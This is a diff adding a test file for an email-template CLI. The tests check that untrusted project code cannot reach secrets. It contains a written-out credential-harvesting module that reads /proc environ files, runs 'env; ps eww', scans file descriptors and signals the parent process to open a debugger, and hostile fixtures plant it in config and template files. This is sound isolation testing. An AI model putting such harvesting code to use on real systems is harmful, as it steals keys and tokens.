@@ -1,0 +1,310 @@
+import { spawn } from "node:child_process";
+import { randomUUID } from "node:crypto";
+import { chownSync, existsSync, readFileSync } from "node:fs";
+import { setTimeout as sleep } from "node:timers/promises";
+import { fileURLToPath } from "node:url";
+import { describe, expect, onTestFinished, test } from "vitest";
+import { namespaceOf } from "../../src/cli/apart/namespace.js";
+import { startService } from "../../src/service/index.js";
+import { htmlTemplate, TestProject } from "./project.js";
+
+const built = (file: string): string => JSON.stringify(new URL(`../../dist/${file}`, import.meta.url).href);
+
+/** Reads and compiles the project as a command with a key does, and prints what comes of it. */
+const driver = `
+import { withProjectApart } from ${built("cli/apart/project-apart.js")};
+const flags = { cwd: undefined, config: undefined };
+await withProjectApart(flags, new AbortController().signal, async ({ project, compile }) => {
+  const compiled = await compile([], project.environments.production?.assets);
+  console.log(JSON.stringify({ pid: process.pid, project, ...compiled, key: process.env.MAIL_LOGIN }));
+});
+`;
+
+/** What a thief tries. Keys of these tests look like nothing else. */
+const thief = `
+import { execSync } from "node:child_process";
+import { appendFileSync, fstatSync, readdirSync, readFileSync } from "node:fs";
+import { getEnvironmentData, parentPort, SHARE_ENV, Worker, workerData } from "node:worker_threads";
+
+const attempt = (work: () => unknown): string => {
+  try {
+    const found = work();
+    return typeof found === "string" ? found : JSON.stringify(found) ?? "";
+  } catch {
+    return "";
+  }
+};
+const environ = (pid: string) => attempt(() => readFileSync("/proc/" + pid + "/environ", "utf8"));
+
+export function steal(where: string): string {
+  const pids = readdirSync("/proc").filter((name) => /^\\d+$/.test(name) && environ(name) !== "");
+  const loot = [
+    attempt(() => process.env),
+    attempt(() => (process.report as any).getReport()),
+    environ("self"),
+    environ(String(process.ppid)),
+    ...pids.map(environ),
+    attempt(() => execSync("env; ps eww; ps auxeww", { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] })),
+    attempt(() => [workerData, getEnvironmentData("env"), (globalThis as any).process.argv]),
+    attempt(() => Object.getOwnPropertyNames(globalThis).map((name) => String((globalThis as any)[name]))),
+    attempt(() => process.mainModule),
+    ...Array.from({ length: 30 }, (_, fd) => attempt(() => fstatSync(fd).isFile() && readFileSync(fd, "utf8"))),
+  ];
+  attempt(() => new Worker("require('fs').appendFileSync('loot.txt', JSON.stringify(process.env) + '\\\\n')", { eval: true, env: SHARE_ENV }));
+  attempt(() => parentPort?.on("message", (message) => appendFileSync("loot.txt", JSON.stringify(message) + "\\n")));
+  // Makes an unguarded Node.js one that can be debugged.
+  attempt(() => process.ppid > 0 && process.kill(process.ppid, "SIGUSR1"));
+  const keys = [...new Set(loot.join().match(/key-of-[a-z]+-[0-9a-f-]{36}/g) ?? [])];
+  appendFileSync("loot.txt", JSON.stringify({ where, keys, pids, LANG: process.env.LANG }) + "\\n");
+  return "stolen: " + keys.join(" ") + " " + process.env.LANG;
+}
+`;
+
+const hostile = {
+  "thief.ts": thief,
+  "driver.mjs": driver,
+  "lettershop.config.ts": `
+    import { steal } from "./thief.js";
+    const baseUrl = "https://cdn.example.com/?" + encodeURIComponent(steal("config"));
+    export default { environments: { production: {
+      url: "https://api.example.com", domain: "example.com", keyVariable: "MAIL_LOGIN", assets: { baseUrl },
+    } } };`,
+  "templates/tsx/tsx.tsx": `
+    import { steal } from "../../thief.js";
+    const found = steal("tsx");
+    export const subject = "Hi";
+    export default function Mail() {
+      return <html lang="en"><head><title>Hi</title></head><body><p>{found}</p></body></html>;
+    }`,
+  "templates/schema/schema.html": htmlTemplate("x")["templates/x/x.html"] ?? "",
+  "templates/schema/template.json": `{ "subject": "For {{name}}" }`,
+  "templates/schema/fixtures/default.json": `{ "name": "Ada" }`,
+  "templates/schema/variables.ts": `
+    import { z } from "zod";
+    import { steal } from "../../thief.js";
+    steal("variables");
+    export default z.object({ name: z.string() });
+    export function derive() { return { derived: steal("derive") }; }`,
+};
+
+function key(of: string): string {
+  return `key-of-${of}-${randomUUID()}`;
+}
+
+interface Ended {
+  readonly code: number | null;
+  readonly stdout: string;
+  readonly stderr: string;
+}
+
+/** Runs a program of the project to its end. */
+async function run(project: TestProject, args: readonly string[], env: Record<string, string>): Promise<Ended> {
+  const { PATH = "", HOME = "", SystemRoot = "" } = process.env;
+  const child = spawn(process.execPath, args, { cwd: project.folder, env: { PATH, HOME, SystemRoot, ...env } });
+  onTestFinished(() => void child.kill("SIGKILL"));
+  let [stdout, stderr] = ["", ""];
+  child.stdout.setEncoding("utf8").on("data", (text: string) => (stdout += text));
+  child.stderr.setEncoding("utf8").on("data", (text: string) => (stderr += text));
+  return new Promise((resolve) => child.on("close", (code) => resolve({ code, stdout, stderr })));
+}
+
+interface Loot {
+  readonly where: string;
+  readonly keys: readonly string[];
+  readonly pids: readonly string[];
+}
+
+function lootOf(project: TestProject): Loot[] {
+  return readFileSync(project.path("loot.txt"), "utf8")
+    .split("\n")
+    .filter((line) => line.startsWith(`{"where"`))
+    .map((line) => JSON.parse(line) as Loot);
+}
+
+// Each starts several processes.
+describe("a project whose code looks for keys", { timeout: 120_000 }, () => {
+  test("finds none: not where it runs, not in the processes around it, in no message", async () => {
+    const project = new TestProject(hostile);
+    const secrets = { LETTERSHOP_API_KEY: key("account"), NPM_TOKEN: key("registry") };
+    const ended = await run(project, ["driver.mjs"], { ...secrets, LANG: "de_CH" });
+    expect(ended).toMatchObject({ code: 0, stderr: "" });
+
+    expect([...new Set(lootOf(project).map(({ where }) => where))].toSorted()).toEqual([
+      "config",
+      "derive",
+      "tsx",
+      "variables",
+    ]);
+    const everything = readFileSync(project.path("loot.txt"), "utf8") + ended.stdout;
+    for (const secret of Object.values(secrets)) expect(everything).not.toContain(secret);
+    // What is no secret is there, and so is what the thief wrote into the mail.
+    const { templates, pid } = JSON.parse(ended.stdout);
+    const { html_body } = templates.find(({ name }: { name: string }) => name === "tsx");
+    expect(html_body).toContain("stolen:  de_CH");
+    if (namespaceOf(project.folder).length > 0)
+      for (const { pids } of lootOf(project)) expect(pids).not.toContain(String(pid));
+  });
+
+  test.runIf(process.getuid?.() === 0)("finds none either where Linux has no namespace for it", async () => {
+    const project = new TestProject(hostile);
+    chownSync(project.folder, 65_534, 65_534);
+    expect(namespaceOf(project.folder)).toEqual([]);
+    const secret = key("account");
+    const ended = await run(project, ["driver.mjs"], { LETTERSHOP_API_KEY: secret });
+    expect(ended).toMatchObject({ code: 0, stderr: "" });
+    expect(readFileSync(project.path("loot.txt"), "utf8") + ended.stdout).not.toContain(secret);
+    // It did look there.
+    expect(lootOf(project).some(({ pids }) => pids.includes(String(JSON.parse(ended.stdout).pid)))).toBe(true);
+  });
+
+  test("a key whose name says nothing is seen by the configuration at most, which names it", async () => {
+    const project = new TestProject(hostile);
+    const secret = key("login");
+    const ended = await run(project, ["driver.mjs"], { MAIL_LOGIN: secret, LETTERSHOP_API_KEY: key("account") });
+    expect(ended).toMatchObject({ code: 0, stderr: "" });
+    const found = lootOf(project).filter(({ keys }) => keys.length > 0);
+    expect(found.map(({ where }) => where)).not.toEqual(expect.arrayContaining([expect.stringMatching(/tsx|var|der/)]));
+    // The command itself has it.
+    expect(JSON.parse(ended.stdout).key).toBe(secret);
+  });
+
+  test.runIf(process.platform === "linux")("the processes above are out of reach where Linux allows it", async () => {
+    const project = new TestProject(hostile);
+    if (namespaceOf(project.folder).length === 0) return;
+    project.write({
+      "above.mjs": `
+        import { spawnSync } from "node:child_process";
+        const { status } = spawnSync(process.execPath, ["driver.mjs"], { stdio: "inherit" });
+        process.exitCode = status;`,
+    });
+    const secret = key("above");
+    expect(await run(project, ["above.mjs"], { LETTERSHOP_API_KEY: secret })).toMatchObject({ code: 0 });
+    expect(readFileSync(project.path("loot.txt"), "utf8")).not.toContain(secret);
+  });
+
+  test.runIf(process.platform === "linux")("nothing is left in the memory that /proc shows of a command", async () => {
+    const project = new TestProject({
+      "hide.mjs": `
+        import { execSync } from "node:child_process";
+        import { hideFromSystem } from ${built("config/own-environment.js")};
+        hideFromSystem(["A_KEY", "NOT_SET"]);
+        const shown = execSync("tr '\\\\0' '\\\\n' < /proc/" + process.pid + "/environ", { encoding: "utf8", env: {} });
+        console.log(JSON.stringify({ shown, A_KEY: process.env.A_KEY, B: process.env.B }));`,
+    });
+    const secret = key("memory");
+    const { stdout } = await run(project, ["hide.mjs"], { A_KEY: secret, B: "Zoë" });
+    const { shown, ...own } = JSON.parse(stdout);
+    expect(own).toEqual({ A_KEY: secret, B: "Zoë" });
+    expect(shown).toContain("B=Zoë");
+    expect(shown).not.toContain(secret);
+  });
+
+  test.runIf(process.platform !== "win32")("an answer of its own making is refused", async () => {
+    const project = new TestProject({
+      "driver.mjs": driver,
+      ...htmlTemplate("one"),
+      "templates/one/variables.ts": `
+        import { writeSync } from "node:fs";
+        import { z } from "zod";
+        writeSync(3, JSON.stringify({ kind: "done", value: { templates: [{ name: "../x" }] } }) + "\\n");
+        export default z.object({ name: z.string() });`,
+    });
+    const { code, stderr } = await run(project, ["driver.mjs"], {});
+    expect(code).not.toBe(0);
+    expect(stderr).toContain("The project's own code has meddled with what its templates compile to.");
+  });
+});
+
+async function localService(): Promise<{ readonly url: string; readonly env: Record<string, string> }> {
+  const service = await startService({ data: ":memory:", port: 0 });
+  onTestFinished(() => service.close());
+  return { url: service.url, env: { LETTERSHOP_ENV: "staging", LETTERSHOP_API_KEY: service.apiKey } };
+}
+
+function staging(url: string): Record<string, string> {
+  return { "lettershop.config.json": JSON.stringify({ environments: { staging: { url, domain: "example.test" } } }) };
+}
+
+const sendOne = ["send", "one", "--to", "ada@example.org"];
+
+describe("what goes wrong there is told as it is elsewhere", { timeout: 120_000 }, () => {
+  test.each([
+    ["a configuration that throws", { "lettershop.config.ts": `export default {\n  templates: nothing,\n};` }],
+    ["a configuration with a wrong key", { "lettershop.config.json": `{ "template": "x" }` }],
+    ["no template of that name", htmlTemplate("ones")],
+    ["a variables.ts that throws", { ...htmlTemplate("one"), "templates/one/variables.ts": `throw new Error("no");` }],
+  ])("%s", async (_, files) => {
+    const { url, env } = await localService();
+    const project = new TestProject({ ...("lettershop.config.ts" in files ? {} : staging(url)), ...files });
+    const here = await project.run(["render", "one"], env);
+    const there = await project.run(sendOne, env);
+    expect(there.code).toBe(here.code);
+    const withoutTarget = there.stderr.replace(/^Environment staging.*\n/, "");
+    expect(here.stderr).toContain(withoutTarget.trim());
+  });
+
+  test.runIf(process.platform !== "win32")("a process that ends is told, with where to look", async () => {
+    const { url, env } = await localService();
+    const project = new TestProject({
+      ...staging(url),
+      ...htmlTemplate("one"),
+      "templates/one/variables.ts": `process.kill(0, "SIGKILL");`,
+    });
+    const { code, stderr } = await project.run(sendOne, env);
+    expect(code).toBe(2);
+    expect(stderr).toMatch(/The process that compiles the templates ended (?:by SIG\w+|with code \d+)\./);
+    expect(stderr).toContain("templates build NAME");
+  });
+
+  test("Ctrl-C ends it, with what it has started", async () => {
+    const { url, env } = await localService();
+    const project = new TestProject({
+      ...staging(url),
+      ...htmlTemplate("one"),
+      "templates/one/variables.ts": `
+        import { spawn } from "node:child_process";
+        import { writeFileSync } from "node:fs";
+        spawn(process.execPath, ["-e", "setInterval(() => require('fs').writeFileSync('beat.txt', String(Date.now())), 20)"]);
+        writeFileSync("started.txt", "");
+        for (;;);`,
+    });
+    const running = project.start(sendOne, env);
+    await expect.poll(() => existsSync(project.path("beat.txt")), { timeout: 60_000 }).toBe(true);
+    running.kill("SIGINT");
+    expect(await running.ended).toMatchObject({
+      code: 130,
+      stderr: expect.stringContaining("Interrupted before the templates were compiled."),
+    });
+    const last = readFileSync(project.path("beat.txt"), "utf8");
+    await sleep(200);
+    expect(readFileSync(project.path("beat.txt"), "utf8")).toBe(last);
+  });
+});
+
+test("the command that is killed takes it along", { timeout: 120_000 }, async () => {
+  const project = new TestProject({
+    "driver.mjs": driver,
+    ...htmlTemplate("one"),
+    "templates/one/variables.ts": `
+      import { writeFileSync } from "node:fs";
+      for (;;) writeFileSync("beat.txt", String(Date.now()));`,
+  });
+  const child = spawn(process.execPath, ["driver.mjs"], { cwd: project.folder, stdio: "ignore" });
+  onTestFinished(() => void child.kill("SIGKILL"));
+  await expect.poll(() => existsSync(project.path("beat.txt")), { timeout: 60_000 }).toBe(true);
+  child.kill("SIGKILL");
+  await expect
+    .poll(
+      async () => {
+        const before = readFileSync(project.path("beat.txt"), "utf8");
+        await sleep(100);
+        return readFileSync(project.path("beat.txt"), "utf8") === before;
+      },
+      { timeout: 60_000 },
+    )
+    .toBe(true);
+});
+
+test("it is part of what is published", () => {
+  expect(existsSync(fileURLToPath(new URL("../../dist/cli/apart/compiler.js", import.meta.url)))).toBe(true);
+});
